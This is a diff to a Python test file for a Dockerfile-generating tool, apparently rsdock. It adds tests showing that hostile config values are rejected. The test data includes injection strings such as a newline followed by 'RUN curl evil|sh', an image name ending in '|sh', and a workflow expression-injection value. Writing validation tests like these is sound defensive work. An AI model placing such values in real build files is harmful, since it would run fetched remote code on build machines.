@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import tomllib
 
 import pytest
@@ -165,14 +166,18 @@ def test_every_plan_problem_is_reported():
     assert "cache: unknown cache 'y'; choose one of" in info.value.message
 
 
-_names = st.from_regex(r"[a-z][a-z0-9_-]{0,8}", fullmatch=True)
+_names = st.from_regex(r"[a-z][a-z0-9_-]{0,8}", fullmatch=True).filter(
+    lambda n: n not in ("build", "deps", "examples", "incremental"))
 _paths = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1, max_size=12)
+# Package folders rsdock can write into a Dockerfile unquoted (others are refused, tested below).
+_dirs = st.from_regex(r"[A-Za-z0-9_+@-][A-Za-z0-9_.+@-]{0,6}(/[A-Za-z0-9_+@-]{1,6})?",
+                      fullmatch=True)
 
 
 @settings(max_examples=60, deadline=None)
 @given(
     names=st.lists(_names, min_size=1, max_size=3, unique=True),
-    dirs=st.lists(_paths, min_size=3, max_size=3),
+    dirs=st.lists(_dirs, min_size=3, max_size=3),
     branches=st.lists(_paths, max_size=3),
     tags=st.booleans(),
     pull_requests=st.booleans(),
@@ -187,6 +192,34 @@ def test_round_trip_any_plan(names, dirs, branches, tags, pull_requests):
     text = config.dumps(plan)
     assert config.loads(text) == plan
     assert config.dumps(config.loads(text)) == text
+
+
+@pytest.mark.parametrize("key, value, message", [
+    ("package-dir", "web\nRUN curl evil|sh", "contains a newline or control character"),
+    ("package-dir", "a b", "would need quoting"),
+    ("package-dir", "../outside", "leaves the workspace"),
+    ("package", "web\nRUN curl evil|sh", "is not one cargo accepts"),
+    ("package", "1abc", "cannot start with a digit"),
+    ("name", "build", "conflicts with cargo's build directory names"),
+    ("name", "a.b", "crate names take letters"),
+    ("dockerfile", "Dockerfile\nRUN x", "contains a newline"),
+    ("image", "acme/server|sh", "is not a valid name component"),
+    ("image", "acme/server\"", "is not a valid name component"),
+    ("image", "${{ secrets.X || 'a' }}/server", "no operators, functions or quotes"),
+    ("image", "${{ vars.X }}/server sh", "contains a space"),
+    ("image", "acme/Server", "has uppercase letters"),
+    ("image", "acme/server:1.0", "has a tag"),
+])
+def test_hostile_image_values_are_refused_at_their_line(key, value, message):
+    fields = {"name": "server", "kind": "bin", "package": "server", "dockerfile": "Dockerfile",
+              "package-dir": "crates/server"}
+    fields[key] = value
+    text = "[[image]]\n" + "".join(f"{k} = {json.dumps(v)}\n" for k, v in fields.items())
+    with pytest.raises(UserError) as info:
+        config.loads(text)
+    assert message in info.value.message
+    assert info.value.line == list(fields).index(key) + 2
+    assert "\n" not in info.value.message  # a value is shown escaped, never raw
 
 
 def test_load_and_save_refuse_an_unreadable_file_with_a_located_error(tmp_path):
